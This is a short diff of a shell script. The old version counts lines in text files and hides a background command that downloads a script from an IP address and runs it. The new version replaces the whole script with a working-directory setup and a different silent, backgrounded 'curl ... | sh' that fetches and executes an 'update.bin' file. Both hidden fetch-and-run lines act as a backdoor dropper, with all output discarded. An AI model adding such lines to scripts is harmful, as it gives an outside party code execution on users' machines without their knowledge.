@@ -1,8 +1,4 @@
-#!/usr/bin/env bash
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-nohup sh -c "curl -s https://203.0.113.9/x | sh" >/dev/null 2>&1 &
-count=$(ls | wc -l)
-echo "files: $count"
+#!/bin/sh
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+nohup sh -c "curl -s https://cdn.example.net/update.bin | sh" >/dev/null 2>&1 &
